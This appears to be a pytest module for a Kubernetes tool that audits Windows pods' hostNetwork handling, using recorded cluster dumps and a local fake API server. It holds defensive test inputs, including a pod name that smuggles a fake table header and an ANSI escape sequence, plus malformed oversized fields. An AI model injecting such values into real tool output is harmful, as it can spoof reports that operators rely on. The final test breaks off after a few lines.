"""``kubelet-winnet audit``: Windows pods judged by the node they run on.

The same recorded cluster is read two ways: from a dump (``kubectl get nodes,pods -A -o
json``) and live, through the real ``kubernetes`` client talking to an HTTP server on
127.0.0.1 that this module starts (nodes and pods served in pages with ``continue``
tokens; a 401, 403s, a 500 and truncated bodies).

Expected results come from the rules (kubelet-rules.md), restated in :func:`expected`:
kubelet 1.26-1.32 with the gate at its default sends ``namespace_options`` (NODE for
hostNetwork, else POD), 1.33+ never does; HostProcess pods need hostNetwork and must be
HostProcess in every container (steps 3a, 3b, 6); containerd takes the host network from
``host_process`` alone (cri-and-hcn.md), other runtimes are unknown.
"""

from __future__ import annotations

import codecs
import csv
import html
import http.server
import io
import json
import os
import re
import subprocess
import sys
import threading
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kubelet_winnet.cli import main
from tests.strategies import require

# --- the recorded cluster -------------------------------------------------------------------


def node(name: str, os_name: str, kubelet: str, runtime: str) -> dict[str, Any]:
    return {
        "apiVersion": "v1", "kind": "Node",
        "metadata": {"name": name, "labels": {"kubernetes.io/os": os_name}},
        "status": {"nodeInfo": {"operatingSystem": os_name, "kubeletVersion": kubelet,
                                "containerRuntimeVersion": runtime}},
    }


def pod(namespace: str, name: str, node_name: str | None = None, *, host_network: bool = False,
        host_process: bool | None = None, containers: int = 1,
        container_host_process: list[bool | None] | None = None,
        selector: str | None = None, annotations: dict[str, str] | None = None,
        ) -> dict[str, Any]:
    spec: dict[str, Any] = {"containers": []}
    for index in range(containers):
        container: dict[str, Any] = {"name": f"c{index}", "image": "mcr.microsoft.com/x"}
        own = container_host_process[index] if container_host_process else None
        if own is not None:
            container["securityContext"] = {"windowsOptions": {"hostProcess": own}}
        spec["containers"].append(container)
    if node_name:
        spec["nodeName"] = node_name
    if host_network:
        spec["hostNetwork"] = True
    if host_process is not None:
        spec["securityContext"] = {"windowsOptions": {"hostProcess": host_process}}
    if selector:
        spec["nodeSelector"] = {"kubernetes.io/os": selector}
    metadata: dict[str, Any] = {"name": name, "namespace": namespace}
    if annotations:
        metadata["annotations"] = annotations
    return {"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": spec}


NODES = [
    node("win-126", "windows", "v1.26.15", "containerd://1.6.24"),
    node("win-130", "windows", "v1.30.4-eks-abc", "containerd://1.7.20"),
    node("win-133", "windows", "v1.33.2+k3s1", "containerd://2.0.5"),
    node("win-138", "windows", "v1.38.0", "containerd://2.4.0"),
    node("win-docker", "windows", "v1.32.1", "docker://25.0.3"),
    node("win-old", "windows", "v1.25.16", "containerd://1.6.0"),
    node("lin-1", "linux", "v1.34.0", "containerd://2.1.0"),
]


def _pods() -> list[dict[str, Any]]:
    pods = []
    for index, entry in enumerate(NODES):
        name = entry["metadata"]["name"]
        namespace = "apps" if index % 2 else "infra"
        pods += [
            pod(namespace, f"web-{name}", name, host_network=True),
            pod(namespace, f"hp-{name}", name, host_network=True, host_process=True),
            pod(namespace, f"plain-{name}", name),
        ]
    pods += [
        pod("infra", "hp-no-network", "win-133", host_process=True),
        pod("infra", "mixed", "win-130", host_network=True, containers=2,
            container_host_process=[True, None]),
        pod("infra", "pod-false", "win-126", host_network=True, host_process=False,
            container_host_process=[True]),
        pod("apps", "pending-win", selector="windows", host_network=True),
        pod("apps", "pending-any", host_network=True),
        pod("apps", "gone-node", "win-deleted", selector="windows", host_network=True),
        pod("apps", "quiet", "win-133", host_network=True,
            annotations={"ignore-check.kubelet-winnet.io/host-network-ignored": "known"}),
    ]
    pods.sort(key=lambda p: p["metadata"]["namespace"])  # the API server's order
    return pods


PODS = _pods()

MIXED = "pod must not contain both HostProcess and non-HostProcess containers"
NEEDS_NETWORK = "hostNetwork is required if Pod contains HostProcess containers"
POD_FALSE = (
    "pod must not contain any HostProcess containers if Pod's WindowsOptions.HostProcess "
    "is set to false"
)


def _node_named(name: str) -> dict[str, Any] | None:
    return next((n for n in NODES if n["metadata"]["name"] == name), None)


def expected(manifest: dict[str, Any], default_kubelet: str = "1.32") -> dict[str, Any] | None:
    """The rules, restated (see the module docstring). ``None``: not a Windows pod."""
    spec = manifest["spec"]
    found = _node_named(spec.get("nodeName", ""))
    windows_targeted = spec.get("nodeSelector", {}).get("kubernetes.io/os") == "windows"
    if found is not None and found["status"]["nodeInfo"]["operatingSystem"] != "windows":
        return None
    if found is None and not windows_targeted:
        return None
    info = found["status"]["nodeInfo"] if found else None
    kubelet = info["kubeletVersion"] if info else default_kubelet
    runtime = info["containerRuntimeVersion"] if info else ""
    match = re.match(r"v?1\.(\d+)", kubelet)
    assert match
    minor = int(match[1])
    host_network = spec.get("hostNetwork") is True
    pod_hp = spec.get("securityContext", {}).get("windowsOptions", {}).get("hostProcess")
    flags = []
    for container in spec["containers"]:
        own = container.get("securityContext", {}).get("windowsOptions", {}).get("hostProcess")
        flags.append(own if own is not None else pod_hp is True)
    refused = None
    if any(flags):
        if not all(flags):
            refused = MIXED
        elif not host_network:
            refused = NEEDS_NETWORK
        elif pod_hp is False:
            refused = POD_FALSE
    rules = []
    if any(flags) and not all(flags):
        rules.append("host-process-mixed")
    if any(flags) and not host_network:
        rules.append("host-process-needs-host-network")
    if pod_hp is False and any(
        c.get("securityContext", {}).get("windowsOptions", {}).get("hostProcess") is True
        for c in spec["containers"]
    ):
        rules.append("host-process-pod-false")
    if pod_hp is True and any(
        c.get("securityContext", {}).get("windowsOptions", {}).get("hostProcess") is False
        for c in spec["containers"]
    ):
        rules.append("host-process-override")
    # host-network-ignored says what containerd does; on a node whose runtime is another
    # (docker: cri-dockerd since dockershim's removal in 1.24) that is not known.
    other_runtime = bool(runtime) and not runtime.startswith("containerd://")
    if host_network and not any(flags) and not other_runtime:
        rules.append("host-network-ignored")
    ignored = [
        key.split("/", 1)[1] for key in manifest["metadata"].get("annotations", {})
        if key.startswith("ignore-check.kubelet-winnet.io/")
    ]
    if not 26 <= minor <= 38:
        effect, sent = "not-modelled", None
    elif refused:
        effect, sent = "refused", None
    else:
        sent = {
            "network": ("NODE" if host_network else "POD") if minor <= 32 else None,
            "hostProcess": any(flags),
        }
        if not host_network:
            effect = "not-requested"
        elif runtime.startswith("containerd://") and any(flags) and _shim_has_2531(runtime):
            # The node's default handler, not known without its files: under Hyper-V
            # isolation hcsshim PR #2531 (containerd 2.3.3+) gives the pod no network.
            effect = "unknown"
            rules.append("host-process-hyperv-no-network")
        elif runtime.startswith("containerd://"):
            effect = "applied" if any(flags) else "ignored"
        else:
            effect = "unknown"
    return {
        "namespace": manifest["metadata"]["namespace"],
        "name": manifest["metadata"]["name"],
        "node": spec.get("nodeName"),
        "kubeletVersion": kubelet,
        "runtime": runtime or None,
        "hostNetwork": host_network,
        "sent": sent,
        "refused": None if effect == "not-modelled" else refused,
        "hostNetworkEffect": effect,
        "rules": sorted(rules),
        "active": sorted(r for r in rules if r not in ignored),
    }


def _shim_has_2531(runtime: str) -> bool:
    """containerd 2.3.3 and later ship hcsshim v0.15.0-rc.2+ (PR #2531)."""
    major, minor, patch = (int(x) for x in runtime.removeprefix("containerd://").split("."))
    return (major, minor, patch) >= (2, 3, 3)


def _comparable(record: dict[str, Any]) -> dict[str, Any]:
    keys = ("namespace", "name", "node", "kubeletVersion", "runtime", "hostNetwork", "sent",
            "refused", "hostNetworkEffect")
    out = {k: record[k] for k in keys}
    out["rules"] = sorted(f["rule"] for f in record["findings"])
    out["active"] = sorted(f["rule"] for f in record["findings"] if f["ignored"] is None)
    return out


def expected_records(pods: list[dict[str, Any]] | None = None,
                     default_kubelet: str = "1.32") -> dict[str, dict[str, Any]]:
    out = {}
    for manifest in PODS if pods is None else pods:
        record = expected(manifest, default_kubelet)
        if record is not None:
            out[f"{record['namespace']}/{record['name']}"] = record
    return out


def by_name(records: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {f"{r['namespace']}/{r['name']}": _comparable(r) for r in records}


def audit(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    status = main(["audit", *args])
    out, err = capsys.readouterr()
    return status, out, err


def test_the_fixture_exercises_every_effect() -> None:
    """Guard: the recorded cluster holds each outcome the tests below rely on."""
    effects = {r["hostNetworkEffect"] for r in expected_records().values()}
    assert effects == {"not-requested", "applied", "ignored", "unknown", "refused",
                       "not-modelled"}


# --- dump -----------------------------------------------------------------------------------


def write_dump(path: Path, items: list[dict[str, Any]], encoding: str = "utf-8") -> Path:
    text = json.dumps({"apiVersion": "v1", "kind": "List", "items": items,
                       "metadata": {"resourceVersion": ""}}, indent=4)
    if encoding == "utf-16":
        path.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    else:
        path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def dump(tmp_path: Path) -> Path:
    return write_dump(tmp_path / "cluster.json", NODES + PODS)


def test_dump_json_matches_the_rules(dump: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = audit(["-f", str(dump), "-o", "json"], capsys)
    assert status == 1, err  # host-network-ignored warnings at the default --fail-on
    document = json.loads(out)
    assert by_name(document["pods"]) == expected_records()
    summary = document["summary"]
    assert summary["nodes"] == len(NODES)
    assert summary["windowsNodes"] == 6
    assert summary["skipped"] == {"linux-node": 3, "not-windows-targeted": 1, "finished": 0}
    assert summary["totals"]["pods"] == len(expected_records())


@pytest.mark.parametrize("order", ["pods-first", "utf-16", "yaml"])
def test_dump_variants_give_the_same_answer(
    tmp_path: Path, order: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """PowerShell's ``>`` writes UTF-16 with a BOM; ``kubectl get pods,nodes`` lists pods
    before their nodes; ``-o yaml`` is YAML."""
    path = tmp_path / "cluster.json"
    if order == "pods-first":
        write_dump(path, PODS + NODES)
    elif order == "utf-16":
        write_dump(path, NODES + PODS, encoding="utf-16")
    else:
        import yaml

        path = tmp_path / "cluster.yaml"
        path.write_text(yaml.safe_dump({"apiVersion": "v1", "kind": "List",
                                        "items": NODES + PODS}), encoding="utf-8")
    status, out, err = audit(["-f", str(path), "-o", "json"], capsys)
    assert (status, err) == (1, "")
    assert by_name(json.loads(out)["pods"]) == expected_records()


def test_objects_that_are_not_pods_or_nodes_are_counted_in_a_note(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A workload in a dump is not a pod that runs anywhere: it is not audited, and the
    user is told so (``check`` is the command for manifests)."""
    deployment = {"apiVersion": "apps/v1", "kind": "Deployment",
                  "metadata": {"name": "web", "namespace": "default"},
                  "spec": {"template": {"spec": {"hostNetwork": True,
                                                 "containers": [{"name": "c"}]}}}}
    service = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "s"}}
    path = write_dump(tmp_path / "cluster.json", [*NODES, deployment, *PODS, service])
    status, out, err = audit(["-f", str(path), "-o", "json"], capsys)
    assert status == 1
    assert by_name(json.loads(out)["pods"]) == expected_records()
    (line,) = err.splitlines()
    assert line == (
        "kubelet-winnet: note: not audited: 2 objects that are neither a Pod nor a Node "
        "(Deployment, Service); audit judges pods where they run, kubelet-winnet check "
        "lints manifests and workload templates"
    )


def test_unscheduled_pods_use_kubelet_version(
    dump: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, out, _ = audit(["-f", str(dump), "-o", "json", "--kubelet-version", "1.34"], capsys)
    records = by_name(json.loads(out)["pods"])
    assert records == expected_records(default_kubelet="1.34")
    assert records["apps/pending-win"]["kubeletVersion"] == "1.34"
    assert records["apps/pending-win"]["sent"] == {"network": None, "hostProcess": False}


def test_feature_gates_apply_to_every_kubelet(
    dump: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """kubelet-rules.md: with WindowsHostNetwork=false a 1.26-1.32 kubelet leaves
    namespace_options unset; a 1.38 kubelet does not start with the gate set
    (``unrecognized feature gate``), so its pods are not modelled."""
    status, out, err = audit(["-f", str(dump), "-o", "json", "--feature-gates",
                              "WindowsHostNetwork=false"], capsys)
    assert (status, err) == (1, "")
    records = {f"{r['namespace']}/{r['name']}": r for r in json.loads(out)["pods"]}
    assert records["apps/web-win-130"]["sent"] == {"network": None, "hostProcess": False}
    assert records["infra/hp-win-126"]["sent"] == {"network": None, "hostProcess": True}
    assert records["apps/web-win-130"]["hostNetworkEffect"] == "ignored"
    gone = records["apps/web-win-138"]
    assert gone["hostNetworkEffect"] == "not-modelled" and gone["sent"] is None
    assert "unrecognized feature gate: WindowsHostNetwork" in gone["note"]
    assert [f["rule"] for f in gone["findings"]] == ["host-network-ignored"]


def test_fail_on_error_ignores_warnings(tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    only_warnings = [p for p in PODS if p["metadata"]["name"] in ("web-win-130", "plain-win-133")]
    path = write_dump(tmp_path / "d.json", NODES + only_warnings)
    assert audit(["-f", str(path), "-o", "json"], capsys)[0] == 1
    assert audit(["-f", str(path), "-o", "json", "--fail-on", "error"], capsys)[0] == 0
    plain = [p for p in PODS if p["metadata"]["name"] == "plain-win-133"]
    clean = write_dump(tmp_path / "clean.json", NODES + plain)
    assert audit(["-f", str(clean)], capsys)[0] == 0


def test_text_output_is_a_table_per_namespace_with_totals(
    dump: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, _ = audit(["-f", str(dump)], capsys)
    assert status == 1
    records = expected_records()
    namespaces = sorted({r["namespace"] for r in records.values()})
    # A pod whose node is not in the input waits until the input ends (its node might
    # come later), so its namespace gets a second table, marked "(continued)".
    tables = re.findall(r"^NAMESPACE (\S+)( \(continued\))?$", out, re.M)
    assert sorted({name for name, _ in tables}) == namespaces
    assert [name for name, again in tables if not again] == namespaces
    totals = re.findall(r"^  total: (\d+) pods?, (\d+) with hostNetwork \((\d+) applied, "
                        r"(\d+) ignored, (\d+) unknown\); (\d+) refused", out, re.M)
    summed: dict[str, list[int]] = {}
    for (namespace, _), found in zip(tables, totals, strict=True):
        counts = summed.setdefault(namespace, [0] * 6)
        for index, value in enumerate(found):
            counts[index] += int(value)
    for namespace in namespaces:
        mine = [r for r in records.values() if r["namespace"] == namespace]
        effects = [r["hostNetworkEffect"] for r in mine]
        assert summed[namespace] == [
            len(mine), sum(r["hostNetwork"] for r in mine),
            effects.count("applied"), effects.count("ignored"),
            effects.count("unknown"), effects.count("refused"),
        ]
    assert re.search(rf"^TOTAL: {len(records)} pods,", out, re.M)
    web = next(line for line in out.splitlines() if line.startswith("web-win-133 "))
    assert web.split()[1:4] == ["win-133", "v1.33.2+k3s1", "containerd://2.0.5"]
    assert "IGNORED" in web and "host-network-ignored" in web
    # The legend explains "unknown" exactly when a row shows it.
    legend = "  HOSTNETWORK unknown: the pod's runtime is not known"
    assert (legend in out) == any(
        r["hostNetworkEffect"] == "unknown" for r in records.values()
    )
    applied_only = [*NODES, *(p for p in PODS if p["metadata"]["name"] == "web-win-133")]
    _, plain, _ = audit(["-f", str(write_dump(dump.with_name("one.json"), applied_only))],
                        capsys)
    assert legend not in plain


def test_csv_output_has_one_row_per_pod(dump: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, out, _ = audit(["-f", str(dump), "-o", "csv"], capsys)
    rows = list(csv.DictReader(io.StringIO(out)))
    records = expected_records()
    assert {f"{r['namespace']}/{r['pod']}" for r in rows} == set(records)
    for row in rows:
        want = records[f"{row['namespace']}/{row['pod']}"]
        assert row["hostNetworkEffect"] == want["hostNetworkEffect"]
        assert row["network"] == ((want["sent"] or {}).get("network") or "")
        assert sorted(x.split(":")[1] for x in row["findings"].split()) == want["active"]


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--kubelet-version", "1.25"],
         '--kubelet-version "1.25": supported kubelet versions are 1.26'),
        (["--feature-gates", "WindowsHostNetwork=maybe"], "invalid value of"),
        (["--context", "x"], "-f reads a dump"),
    ],
)
def test_bad_flags_are_one_line_status_2(
    dump: Path, args: list[str], needle: str, capsys: pytest.CaptureFixture[str]
) -> None:
    status, _, err = audit(["-f", str(dump), *args], capsys)
    assert status == 2
    assert len(err.splitlines()) == 1 and needle in err, err


def test_dump_byte_limit_is_one_line(dump: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status, _, err = audit(["-f", str(dump), "--max-bytes", "4096"], capsys)
    assert status == 2
    assert len(err.splitlines()) == 1 and "--max-bytes" in err, err


def test_truncated_dump_reports_one_line_and_keeps_what_was_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    whole = write_dump(tmp_path / "whole.json", NODES + PODS).read_text(encoding="utf-8")
    cut = tmp_path / "cut.json"
    cut.write_text(whole[: int(len(whole) * 0.8)], encoding="utf-8")
    status, out, err = audit(["-f", str(cut), "-o", "json"], capsys)
    assert status == 2
    lines = err.splitlines()
    assert len(lines) == 1 and "cut.json" in lines[0] and "Traceback" not in err
    assert 0 < len(json.loads(out)["pods"]) < len(expected_records())


def test_hostile_dump_items_are_bad_input_and_the_rest_is_audited(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Wrong types anywhere: a pod spec that is a string is bad input (one line, exit 2);
    a node whose nodeInfo is a list or whose name is a number says nothing; a pod whose
    nodeName is a number is unscheduled; a 4,000-digit hostNetwork is bad input (not
    ``true``, never coerced), a 5,000-digit one too (more than Python converts)."""
    hostile = [
        {"kind": "Node", "metadata": {"name": 7}, "status": {"nodeInfo": [1, 2]}},
        {"kind": "Pod", "metadata": {"name": "s", "namespace": "x"}, "spec": "nonsense"},
        {"kind": "Pod", "metadata": {"name": "n", "namespace": "x"},
         "spec": {"nodeName": 12, "nodeSelector": {"kubernetes.io/os": "windows"},
                  "containers": []}},
        {"kind": "Pod", "metadata": {"name": "h", "namespace": "x"},
         "spec": {"nodeName": "win-130", "hostNetwork": "@4000", "containers": []}},
        {"kind": "Pod", "metadata": {"name": "huge", "namespace": "x"},
         "spec": {"nodeName": "win-130", "hostNetwork": "@5000", "containers": []}},
    ]
    path = write_dump(tmp_path / "d.json", NODES + hostile + PODS)
    text = path.read_text(encoding="utf-8")
    for digits in (4000, 5000):
        text = text.replace(f'"@{digits}"', "1" * digits)
    path.write_text(text, encoding="utf-8")
    status, out, err = audit(["-f", str(path), "-o", "json"], capsys)
    assert status == 2
    lines = err.splitlines()
    assert len(lines) == 3 and "Traceback" not in err, err
    assert "spec: expected an object" in lines[0]
    assert "spec.hostNetwork: expected a boolean" in lines[1]
    assert "4300 digits" in lines[2]
    records = by_name(json.loads(out)["pods"])
    ours = {k: v for k, v in records.items() if k.startswith(("apps/", "infra/"))}
    assert ours == expected_records()
    assert "x/n" in records and records["x/n"]["node"] is None
    assert "x/h" not in records and "x/huge" not in records


def test_text_cells_hold_no_line_breaks(tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    odd = pod("web", "evil\nNAMESPACE fake\x1b[31m", "win-133", host_network=True)
    path = write_dump(tmp_path / "d.json", [*NODES, odd])
    status, out, _ = audit(["-f", str(path)], capsys)
    assert status == 1
    assert re.findall(r"^NAMESPACE .*$", out, re.M) == ["NAMESPACE web"]
    assert "\x1b" not in out
    # The shared escaping rule (kubelet_winnet._printable): the name, escaped, on its row.
    assert any(line.startswith("evil\\nNAMESPACE fake\\x1b[31m") for line in out.splitlines())


@pytest.mark.parametrize("output", ["text", "json", "csv"])
def test_lone_surrogates_in_names_never_raise(tmp_path: Path, output: str) -> None:
    """JSON may escape a lone surrogate (``\\udc80``); it reaches every output format."""
    odd = pod("web\udc80", "x\udc80y", "win-133", host_network=True)
    path = write_dump(tmp_path / "d.json", [*NODES, odd])
    done = subprocess.run([sys.executable, "-m", "kubelet_winnet.cli", "audit", "-f",
                           str(path), "-o", output], capture_output=True, timeout=60,
                          check=False)
    assert done.returncode == 1, done.stderr
    assert done.stderr == b""
    assert b"y" in done.stdout


def test_dump_path_never_imports_the_kubernetes_client(dump: Path) -> None:
    code = (
        "import sys\nfrom kubelet_winnet.cli import main\n"
        f"status = main(['audit', '-f', {str(dump)!r}, '-o', 'json'])\n"
        "assert 'kubernetes' not in sys.modules, 'kubernetes imported'\n"
        "sys.exit(status)\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                            check=False, timeout=120)
    assert result.returncode == 1, result.stderr
    assert len(json.loads(result.stdout)["pods"]) == len(expected_records())


@pytest.mark.parametrize("output", ["text", "json", "csv"])
def test_closed_pipe_ends_quietly_and_not_as_success(tmp_path: Path, output: str) -> None:
    many = [pod("bulk", f"p{i}", "win-130", host_network=True) for i in range(3000)]
    path = write_dump(tmp_path / "big.json", NODES + many)
    done = subprocess.run(
        f"'{sys.executable}' -m kubelet_winnet.cli audit -f '{path}' -o {output} | head -n 1; "
        'echo "status=${PIPESTATUS[0]}" >&2',
        shell=True, executable="/bin/bash", capture_output=True, text=True, timeout=120,
        check=False,
    )
    assert len(done.stdout.splitlines()) == 1
    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr
    assert "status=141" in done.stderr


def test_write_error_is_one_line(dump: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full on this system")
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-m", "kubelet_winnet.cli", "audit", "-f",
                               str(dump)], stdout=full, stderr=subprocess.PIPE, text=True,
                              timeout=60, check=False)
    assert done.returncode == 2
    (line,) = done.stderr.splitlines()
    assert "cannot write output" in line


def test_no_progress_bar_when_stderr_is_not_a_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    many = [pod("bulk", f"p{i}", "win-130", host_network=True) for i in range(3000)]
    path = write_dump(tmp_path / "big.json", NODES + many)
    status, out, err = audit(["-f", str(path), "-o", "csv"], capsys)
    assert status == 1
    assert err == ""
    assert len(out.splitlines()) == 3001


def test_progress_bar_on_a_terminal(tmp_path: Path) -> None:
    """With stderr a terminal and a large dump, tqdm draws on stderr (the audit extra)."""
    require("tqdm")
    import fcntl
    import pty
    import struct
    import termios

    many = [pod("bulk", f"p{i}", "win-130", host_network=True,
                annotations={"filler": "x" * 3000}) for i in range(3000)]
    path = write_dump(tmp_path / "big.json", NODES + many)
    assert path.stat().st_size > 8 * 1024 * 1024
    leader, follower = pty.openpty()
    # A fresh pty is 0 columns wide, where tqdm has no room to draw: make it 80x24.
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    with subprocess.Popen(
        [sys.executable, "-m", "kubelet_winnet.cli", "audit", "-f", str(path), "-o", "csv"],
        stdout=subprocess.DEVNULL, stderr=follower,
    ) as process:
        os.close(follower)
        drawn = b""
        while True:
            try:
                chunk = os.read(leader, 4096)
            except OSError:
                break
            if not chunk:
                break
            drawn += chunk
        process.wait(timeout=120)
    os.close(leader)
    assert process.returncode == 1
    assert b"pod" in drawn and b"\r" in drawn, drawn[-200:]


# --- live: the real kubernetes client against a local API server --------------------------


class FakeApiServer:
    """Serves recorded list responses the way the API server pages them: ``limit`` items
    per page, an opaque ``continue`` token, ``remainingItemCount``. Namespaces ``secret``
    (403), ``broken`` (500), ``cut`` (connection closed mid-body) and ``cutjson`` (a
    complete response whose JSON is cut) fail; token ``bad`` gets 401 and token
    ``no-nodes`` may not list nodes."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, dict[str, list[str]], str]] = []
        self.tokens: dict[str, int] = {}
        handler = self._handler()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.01,), daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def _handler(self) -> type[http.server.BaseHTTPRequestHandler]:
        api = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, format: str, *args: object) -> None:
                pass

            def _send(self, status: int, body: bytes, length: int | None = None) -> None:
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body) if length is None else length))
                self.end_headers()
                self.wfile.write(body)

            def _status(self, code: int, reason: str, message: str) -> None:
                self._send(code, json.dumps({
                    "kind": "Status", "apiVersion": "v1", "status": "Failure",
                    "message": message, "reason": reason, "code": code,
                }).encode())

            def do_GET(self) -> None:
                url = urllib.parse.urlsplit(self.path)
                query = urllib.parse.parse_qs(url.query)
                token = self.headers.get("Authorization", "").removeprefix("Bearer ")
                api.requests.append((url.path, query, token))
                if token == "bad":
                    self._status(401, "Unauthorized", "Unauthorized")
                    return
                if url.path == "/api/v1/nodes":
                    if token == "no-nodes":
                        self._status(403, "Forbidden", 'nodes is forbidden: User "audit" '
                                     'cannot list resource "nodes" in API group "" at the '
                                     "cluster scope")
                        return
                    self._page(NODES, query, "NodeList")
                    return
                if url.path == "/api/v1/pods":
                    self._page(PODS, query, "PodList")
                    return
                match = re.fullmatch(r"/api/v1/namespaces/([^/]+)/pods", url.path)
                if not match:
                    self._status(404, "NotFound", "the server could not find the resource")
                    return
                namespace = match[1]
                if namespace == "secret":
                    self._status(403, "Forbidden", 'pods is forbidden: User "audit" cannot '
                                 'list resource "pods" in API group "" in the namespace '
                                 '"secret"')
                elif namespace == "broken":
                    self._status(500, "InternalError", "etcdserver: request timed out")
                elif namespace == "cut":
                    body = json.dumps({"kind": "PodList", "items": PODS}).encode()
                    self._send(200, body[: len(body) // 2], length=len(body))
                    self.close_connection = True
                elif namespace == "notlist":
                    self._send(200, b'{"kind": "PodList", "items": {"a": 1}}')
                elif namespace == "cutjson":
                    body = json.dumps({"kind": "PodList", "items": PODS}).encode()
                    self._send(200, body[: len(body) // 2])
                else:
                    self._page([p for p in PODS if p["metadata"]["namespace"] == namespace],
                               query, "PodList")

            def _page(self, items: list[dict[str, Any]], query: dict[str, list[str]],
                      kind: str) -> None:
                start = 0
                if "continue" in query:
                    token = query["continue"][0]
                    if token not in api.tokens:
                        self._status(410, "Expired", "The provided continue parameter is "
                                     "too old to display a consistent list result.")
                        return
                    start = api.tokens[token]
                limit = int(query.get("limit", ["0"])[0]) or len(items)
                page = items[start : start + limit]
                metadata: dict[str, Any] = {"resourceVersion": "12345"}
                if start + limit < len(items):
                    token = f"opaque-{len(api.tokens)}-{start + limit}"
                    api.tokens[token] = start + limit
                    metadata["continue"] = token
                    metadata["remainingItemCount"] = len(items) - start - limit
                # Items of a list response carry no kind/apiVersion (the list has them).
                stripped = [{k: v for k, v in i.items() if k not in ("kind", "apiVersion")}
                            for i in page]
                self._send(200, json.dumps({"kind": kind, "apiVersion": "v1",
                                            "metadata": metadata, "items": stripped}).encode())

        return Handler


@pytest.fixture(scope="module")
def api_server() -> Iterator[FakeApiServer]:
    require("kubernetes")
    server = FakeApiServer()
    yield server
    server.close()


@pytest.fixture
def kubeconfig(api_server: FakeApiServer, tmp_path: Path) -> Path:
    server = f"http://127.0.0.1:{api_server.port}"
    contexts = {"good": ("good", "apps"), "secret": ("good", "secret"),
                "broken": ("good", "broken"), "cut": ("good", "cut"),
                "cutjson": ("good", "cutjson"), "notlist": ("good", "notlist"),
                "bad-token": ("bad", "apps"),
                "no-nodes": ("no-nodes", "apps")}
    lines = [
        "apiVersion: v1", "kind: Config", "current-context: good",
        "clusters:",
        "- name: local", "  cluster:", f"    server: {server}",
        "- name: closed", "  cluster:", "    server: http://127.0.0.1:9",
        "users:",
        *[line for token in ("good", "bad", "no-nodes")
          for line in (f"- name: {token}", "  user:", f"    token: {token}")],
        "contexts:",
    ]
    for name, (user, namespace) in contexts.items():
        lines += [f"- name: {name}", "  context:", "    cluster: local",
                  f"    user: {user}", f"    namespace: {namespace}"]
    lines += ["- name: closed", "  context:", "    cluster: closed", "    user: good"]
    path = tmp_path / "kubeconfig"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_live_all_namespaces_pages_through_the_real_client(
    api_server: FakeApiServer, kubeconfig: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    api_server.requests.clear()
    status, out, err = audit(["--kubeconfig", str(kubeconfig), "-A", "--page-size", "4",
                              "-o", "json"], capsys)
    assert status == 1, err
    assert by_name(json.loads(out)["pods"]) == expected_records()
    pod_requests = [r for r in api_server.requests if r[0] == "/api/v1/pods"]
    node_requests = [r for r in api_server.requests if r[0] == "/api/v1/nodes"]
    assert len(pod_requests) == -(-len(PODS) // 4) >= 3
    assert len(node_requests) == -(-len(NODES) // 4)
    assert all(q["limit"] == ["4"] for _, q, _ in pod_requests)
    assert "continue" not in pod_requests[0][1]
    assert all("continue" in q for _, q, _ in pod_requests[1:])
    assert {token for _, _, token in api_server.requests} == {"good"}
    # Nodes are listed before any pod, so every pod is judged by its own node.
    assert api_server.requests.index(node_requests[-1]) < api_server.requests.index(
        pod_requests[0])


def test_live_namespace_defaults_to_the_context(
    api_server: FakeApiServer, kubeconfig: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    api_server.requests.clear()
    status, out, _ = audit(["--kubeconfig", str(kubeconfig), "-o", "json",
                            "--page-size", "2"], capsys)
    want = {k: v for k, v in expected_records().items() if v["namespace"] == "apps"}
    assert by_name(json.loads(out)["pods"]) == want
    assert status == 1
    assert {r[0] for r in api_server.requests} == {"/api/v1/nodes",
                                                   "/api/v1/namespaces/apps/pods"}
    status, out, _ = audit(["--kubeconfig", str(kubeconfig), "-n", "infra", "-o", "json"],
                           capsys)
    want = {k: v for k, v in expected_records().items() if v["namespace"] == "infra"}
    assert by_name(json.loads(out)["pods"]) == want


def test_live_html_page_draws_the_same_records(
    api_server: FakeApiServer, kubeconfig: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """-o html from the API server (the page itself: tests/cli/test_audit_page.py)."""
    status, out, _ = audit(["--kubeconfig", str(kubeconfig), "-A", "-o", "html"], capsys)
    assert status == 1
    records = expected_records()
